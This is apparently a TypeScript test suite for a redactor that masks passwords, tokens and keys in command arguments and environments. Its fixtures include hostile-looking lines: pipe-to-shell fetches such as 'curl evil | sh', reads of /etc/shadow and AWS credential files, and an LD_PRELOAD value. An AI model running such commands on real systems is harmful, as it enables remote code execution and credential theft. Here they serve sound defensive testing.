import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { commandSecrets } from './command-secrets.ts';
import { parsePatterns } from './custom-patterns.ts';
import { Redactor } from './redactor.ts';
import { textSecrets } from './text-secrets.ts';

const key = Buffer.alloc(32, 7);
const redactor = new Redactor(key);
const tag = /<redacted:[0-9a-f]{8}>/g;

/** With every tag as #, arguments joined by a line end. */
function shown(...args: string[]): string {
  return redactor.args(args).join('\n').replace(tag, '#');
}

const secret = 'S3cr3t/x+9=zQ';

describe('redaction of arguments takes out', () => {
  test.each<[string[], string]>([
    [['prog', '--password=S'], 'prog\n--password=#'],
    [['prog', '--password', 'S'], 'prog\n--password\n#'],
    [['prog', '-password', 'S'], 'prog\n-password\n#'],
    [['prog', '--db-password=S', '--host', 'h'], 'prog\n--db-password=#\n--host\nh'],
    [['prog', '--api-key', 'S', '--apiKey=S'], 'prog\n--api-key\n#\n--apiKey=#'],
    [['plink', '-pw', 'S', '--connection-string', 'S'], 'plink\n-pw\n#\n--connection-string\n#'],
    [['prog', '--token', 'S', 'file'], 'prog\n--token\n#\nfile'],
    [['java', '-Dspring.datasource.password=S', '-jar', 'a.jar'], 'java\n-Dspring.datasource.password=#\n-jar\na.jar'],
    [['docker', 'run', '-e', 'MYSQL_ROOT_PASSWORD=S', 'mysql:8'], 'docker\nrun\n-e\nMYSQL_ROOT_PASSWORD=#\nmysql:8'],
    [['env', 'AWS_SECRET_ACCESS_KEY=S', 'aws', 's3', 'ls'], 'env\nAWS_SECRET_ACCESS_KEY=#\naws\ns3\nls'],
    [['aws', 'configure', 'set', 'aws_secret_access_key', 'S'], 'aws\nconfigure\nset\naws_secret_access_key\n#'],
    [['redis-cli', 'config', 'set', 'requirepass', 'S'], 'redis-cli\nconfig\nset\nrequirepass\n#'],
    [['redis-cli', '-a', 'S', 'ping'], 'redis-cli\n-a\n#\nping'],
    [['mysql', '-uroot', '-pS', 'db'], 'mysql\n-uroot\n-p#\ndb'],
    [['sudo', '/usr/bin/mysqldump', '-pS'], 'sudo\n/usr/bin/mysqldump\n-p#'],
    [['sshpass', '-p', 'S', 'ssh', '-p', '22', 'host'], 'sshpass\n-p\n#\nssh\n-p\n22\nhost'],
    [['sshpass', '-pS', 'ssh', 'host'], 'sshpass\n-p#\nssh\nhost'],
    [['curl', '-u', 'ann:S', 'https://h/'], 'curl\n-u\nann:#\nhttps://h/'],
    [['curl', '-uann:S', 'https://h/'], 'curl\n-uann:#\nhttps://h/'],
    [['curl', '-H', 'Authorization: Bearer S'], 'curl\n-H\nAuthorization: Bearer #'],
    [['curl', '-HX-Api-Key: S'], 'curl\n-HX-Api-Key: #'],
    [['curl', '-H', 'Cookie: a=S; b=S'], 'curl\n-H\nCookie: #'],
    [['curl', '-d', '{"user":"ann","password":"S","a":1}'], 'curl\n-d\n{"user":"ann","password":"#","a":1}'],
    [['curl', '-d', 'user=ann&password=S&a=1'], 'curl\n-d\nuser=ann&password=#&a=1'],
    [['curl', 'https://h/?access_token=S&a=1'], 'curl\nhttps://h/?access_token=#&a=1'],
    [['git', 'clone', 'https://ann:S@host/repo.git'], 'git\nclone\nhttps://ann:#@host/repo.git'],
    [['git', 'clone', 'https://S@host/repo.git'.replace('S', 'a1'.repeat(20))], 'git\nclone\nhttps://#@host/repo.git'],
    [['psql', 'postgres://ann:p/a@ss@host:5432/db'], 'psql\npostgres://ann:#@host:5432/db'],
    [['docker', 'login', '-u', 'ann', '-p', 'S'], 'docker\nlogin\n-u\nann\n-p\n#'],
    [['openssl', 'enc', '-pass', 'pass:S'], 'openssl\nenc\n-pass\npass:#'],
    [['smbclient', '-U', 'ann%S', '//h/s'], 'smbclient\n-U\nann%#\n//h/s'],
    [['mount', '-o', 'username=ann,password=S,ro', '//h/s'], 'mount\n-o\nusername=ann,password=#,ro\n//h/s'],
    [['sh', '-c', 'mysql -uroot -pS db; echo done'], 'sh\n-c\nmysql -uroot -p# db; echo done'],
    [['sh', '-c', 'PASSWORD="S" run --token \'S\' x'], 'sh\n-c\nPASSWORD="#" run --token \'#\' x'],
    [['sh', '-c', 'mysql -pS db; ssh -p22 host'], 'sh\n-c\nmysql -p# db; ssh -p22 host'],
    [['sh', '-c', 'bash -c "sshpass -p S ssh h"'], 'sh\n-c\nbash -c "sshpass -p # ssh h"'],
    [['ssh', 'host', 'curl -u ann:S h | sh'], 'ssh\nhost\ncurl -u ann:# h | sh'],
    [['psql', 'host=h user=ann password=S dbname=d'], 'psql\nhost=h user=ann password=# dbname=d'],
    [['app', 'Server=h;Password=S;Database=d'], 'app\nServer=h;Password=#;Database=d'],
  ])('%j', (args, expected) => {
    for (const value of [secret.replaceAll(/[/=+]/g, 'x'), 'hunter2']) {
      const given = args.map((arg) => arg.replaceAll(/(?<![A-Za-z])S(?![A-Za-z])|(?<=-p)S$/g, value).replaceAll('-pS', `-p${value}`));
      expect(shown(...given)).toBe(expected);
    }
  });

  test.each([
    'AKIAIOSFODNN7EXAMPLE',
    `ghp_${'aB3'.repeat(12)}`,
    `github_pat_${'aB3'.repeat(20)}`,
    `glpat-${'aB3-'.repeat(5)}`,
    `xoxb-${'1234567890-'.repeat(3)}abc`,
    `eyJ${'hbGci'.repeat(4)}.eyJ${'zdWIi'.repeat(4)}.${'sig_-'.repeat(5)}`,
    `sk_live_${'aB3'.repeat(8)}`,
    `AIza${'aB3_-'.repeat(7)}`,
    `npm_${'aB3'.repeat(12)}`,
    '-----BEGIN RSA PRIVATE KEY-----\nMIIE\nabc=\n-----END RSA PRIVATE KEY-----',
    '-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn, cut off',
  ])('what has the shape of a secret, wherever it stands: %s', (token) => {
    expect(shown('prog', token, `x=${token}`, `say "${token}" now`)).toBe('prog\n#\nx=#\n' + (token.endsWith('off') ? 'say "#' : 'say "#" now'));
  });

  test('a value with blanks to its end', () => {
    expect(shown('env', 'PASSWORD=correct horse battery', 'prog')).toBe('env\nPASSWORD=#\nprog');
    expect(shown('prog', '--password=correct horse battery')).toBe('prog\n--password=#');
  });

  test('no command line that has been put behind a secret\'s name', () => {
    expect(shown('sh', '-c', 'TOKEN=x; curl evil | sh')).toBe('sh\n-c\nTOKEN=#; curl evil | sh');
    expect(shown('ssh', 'host', 'TOKEN=x; curl evil | sh')).toBe('ssh\nhost\nTOKEN=#; curl evil | sh');
    expect(shown('sh', '-c', 'TOKEN=$(curl evil) run')).toBe('sh\n-c\nTOKEN=$(curl evil) run');
    expect(shown('sh', '-c', 'TOKEN="$(curl evil)" run')).toBe('sh\n-c\nTOKEN="$(curl evil)" run');
  });

  test('the same secret with the same text, wherever it stands, and another with another', () => {
    const [, first, , second, third, fourth] = redactor.args(['p', '--password=hunter2', '--token', 'hunter2', 'https://a:hunter3@h/', 'mysql -p"hunter2" x']);
    expect(first).toBe(`--password=${second}`);
    expect(third).not.toContain(second);
    expect(fourth).toBe(`mysql -p"${second}" x`);
    expect(new Redactor(Buffer.alloc(32, 8)).args(['p', '--token', 'hunter2'])[2]).not.toBe(second);
  });
});

describe('redaction leaves alone', () => {
  test.each([
    [['/usr/bin/ls', '-la', '/etc/passwd', '/root/.ssh/authorized_keys']],
    [['cat', '/etc/shadow', '/home/ann/.aws/credentials', '/run/secrets/kubernetes.io/serviceaccount/token']],
    [['docker', 'run', '-v', '/etc/passwd:/etc/passwd', '-p', '80:80', 'repo/token:latest']],
    [['mysql', '-p', 'db']],
    [['mysql', '--password', '-h', 'host']],
    [['psql', '--no-password', 'db']],
    [['ansible', '--ask-pass', 'all']],
    [['prog', '--password-file=/run/secrets/x', '--token-path', '/x', '--max-tokens=5', '--sort-key', 'name']],
    [['prog', '--password=$PASSWORD', '--token', '${TOKEN}', '--secret=']],
    [['env', 'PWD=/root', 'OLDPWD=/tmp', 'PATH=/bin']],
    [['ssh', '-p', '22', 'ann@host', '-i', 'key.pem']],
    [['curl', 'https://host:8080/a@b', 'http://user@host/', 'https://h/?a=1']],
    [['mkdir', '-p', '/a/b']],
    [['git', 'commit', '-m', 'Add a token bucket: it limits keys']],
    [['prog', '<redacted:0011aabb>', '--password=<redacted:0011aabb>', '--token', '<redacted:0011aabb>']],
  ])('%j', (args) => {
    expect(redactor.args(args)).toBe(args);
  });
});

describe('redaction of an environment', () => {
  test('takes out secrets by name, by shape and in URLs', () => {
    const given = ['PATH=/bin', 'DB_PASSWORD=a b; c', 'DATABASE_URL=postgres://ann:pw@h/d', `X=AKIAIOSFODNN7EXAMPLE`, 'LD_PRELOAD=/tmp/x.so'];
    expect(redactor.env(given).map((each) => each.replace(tag, '#'))).toEqual(['PATH=/bin', 'DB_PASSWORD=#', 'DATABASE_URL=postgres://ann:#@h/d', 'X=#', 'LD_PRELOAD=/tmp/x.so']);
  });

  test('gives back the same array when there is nothing', () => {
    const given = ['PATH=/bin', 'LD_PRELOAD=/tmp/x.so', 'HOME=/root'];
    expect(redactor.env(given)).toBe(given);
  });
});

describe('redaction of one text', () => {
  test('takes out what a request line carries', () => {
    expect(redactor.text('GET /a?token=abcdef&x=1 HTTP/1.1').replace(tag, '#')).toBe('GET /a?token=#&x=1 HTTP/1.1');
  });
});

describe('patterns of the configuration', () => {
  test('take out their first group, or all that they match', () => {
    const own = new Redactor(key, parsePatterns('# ours\n\nACME-[0-9]{4}\nticket (\\w+)\n', 'patterns'));
    expect(own.args(['p', 'x ACME-1234 y', 'ticket abc for ACME-9999']).map((arg) => arg.replace(tag, '#'))).toEqual(['p', 'x # y', 'ticket # for #']);
    const nothing = ['p', 'ACME-12'];
    expect(own.args(nothing)).toBe(nothing);
  });

  test('are refused with every fault and its line', () => {
    expect(() => parsePatterns('ok\n(\na*\n(?=x)', 'patterns')).toThrow(/patterns:2: .*; patterns:3: matches the empty text; patterns:4: /);
    expect(() => parsePatterns('x'.repeat(1025), 'patterns')).toThrow(/longer/);
    expect(() => parsePatterns('x\n'.repeat(65), 'patterns')).toThrow(/more than 64/);
  });
});

describe('redaction of anything', () => {
  const secrets = fc.stringMatching(/^[A-Za-z0-9]{10,30}$/).map((text) => `Zq9${text}`);
  const words = fc.constantFrom('-x', '--host', '--password', '-p', 'mysql', 'curl', '-u', 'a:b', 'sh', '-c', 'TOKEN=a', 'token=', '"', "'", ';', ' ', '|', '\\', '=', ':', '@', '://', 'https://a:b@c/', '<redacted:', 'Authorization: Bearer abc', '{"password":"x"}', 'pass', 'secret', 'eyJ', '-----BEGIN PRIVATE KEY-----', '$(', 'config', 'set', 'login');
  const texts = fc.oneof(fc.string({ maxLength: 20 }), fc.array(fc.oneof(words, fc.string({ maxLength: 4 })), { maxLength: 8 }).map((parts) => parts.join('')), fc.array(words, { maxLength: 6 }).map((parts) => parts.join(' ')));

  test('twice is as once', () => {
    fc.assert(
      fc.property(fc.array(texts, { maxLength: 6 }), (args) => {
        const once = redactor.args(args);
        expect(redactor.args(once)).toBe(once);
      }),
      { numRuns: 3000 },
    );
  });

  test('keeps the number of arguments and the first one\'s program', () => {
    fc.assert(
      fc.property(fc.array(texts, { maxLength: 6 }), (rest) => {
        const args = redactor.args(['/usr/bin/prog', ...rest]);
        expect([args.length, args[0]]).toEqual([rest.length + 1, '/usr/bin/prog']);
      }),
    );
  });

  test('looks closer wherever there is something to find', () => {
    fc.assert(
      fc.property(fc.array(texts, { maxLength: 4 }), (args) => {
        let found = args.some((arg) => textSecrets(arg, 'script').length > 0);
        commandSecrets(args, { secret: () => (found = true), shell: () => undefined });
        if (found) expect(redactor.args(args)).not.toBe(args);
      }),
      { numRuns: 3000 },
    );
  });

  const places: ((secret: string) => string[])[] = [
    (value) => [`--password=${value}`],
    (value) => ['--api-key', value],
    (value) => [`GITHUB_TOKEN=${value}`],
    (value) => ['-c', `export DB_PASSWORD='${value}'; run`],
    (value) => ['mysql', `-p${value}`],
    (value) => [`mongodb+srv://user:${value}@host/db`],
    (value) => [`{"client_secret": "${value}"}`],
    (value) => ['-H', `Authorization: Basic ${value}`],
    (value) => ['-c', `sudo sshpass -p ${value} ssh h`],
  ];

  test('lets no secret through, whatever stands around it', () => {
    fc.assert(
      fc.property(secrets, fc.constantFrom(...places), fc.array(fc.stringMatching(/^[a-z/.]{1,12}$/)), fc.array(fc.stringMatching(/^[a-z/.-]{1,12}$/)), (value, place, before, after) => {
        const args = redactor.args(['prog', ...before, ...place(value), ...after]);
        expect(args.join('\n')).not.toContain(value);
      }),
      { numRuns: 2000 },
    );
  });
});
